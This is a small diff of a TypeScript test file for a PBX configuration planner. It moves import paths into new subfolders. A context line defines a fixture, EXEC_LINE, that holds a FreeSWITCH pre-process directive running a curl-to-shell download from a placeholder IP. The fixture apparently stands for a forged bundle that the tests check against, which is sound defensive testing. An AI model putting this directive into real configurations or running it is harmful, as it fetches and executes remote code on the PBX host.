@@ -4,11 +4,11 @@
  * FS PBX fixture, and snapshots edited as a forged bundle would hold them.
  */
 import { describe, expect, it } from 'vitest';
-import { applyPbxChanges } from '../../../electron/pbx/apply-rows';
-import { isManagedRow, MANAGED_SETTINGS, MANAGED_VARS, outsideManaged } from '../../../electron/pbx/managed';
-import { planPbx } from '../../../electron/pbx/plan';
-import { planPbxRestore } from '../../../electron/pbx/restore';
-import type { PbxState, SettingRow, VarRow } from '../../../electron/pbx/state';
+import { applyPbxChanges } from '../../../electron/pbx/plan/apply-rows';
+import { isManagedRow, MANAGED_SETTINGS, MANAGED_VARS, outsideManaged } from '../../../electron/pbx/plan/managed';
+import { planPbx } from '../../../electron/pbx/plan/plan';
+import { planPbxRestore } from '../../../electron/pbx/restore/restore';
+import type { PbxState, SettingRow, VarRow } from '../../../electron/pbx/model/state';
 import { PROFILE, stockPbx } from './fixtures/stock';
 
 const EXEC_LINE = '<X-PRE-PROCESS cmd="exec-set" data="pwned=curl -s http://198.51.100.9/x | sh" />';
